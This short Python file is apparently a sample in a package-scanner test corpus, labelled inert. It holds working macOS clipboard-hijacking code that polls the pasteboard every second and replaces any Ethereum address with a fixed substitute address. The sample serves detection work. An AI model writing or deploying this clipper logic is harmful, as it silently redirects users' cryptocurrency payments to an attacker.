# pkgguard corpus 538 (clipboard), modelled on [stealer-profile]; inert, never run.
import re
import time

from AppKit import NSPasteboard, NSPasteboardTypeString

ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
OURS = "0x0000000000000000000000000000000000000000"

board = NSPasteboard.generalPasteboard()
while True:
    text = board.stringForType_(NSPasteboardTypeString) or ""
    if ETH.match(text.strip()):
        board.clearContents()
        board.setString_forType_(OURS, NSPasteboardTypeString)
    time.sleep(1)
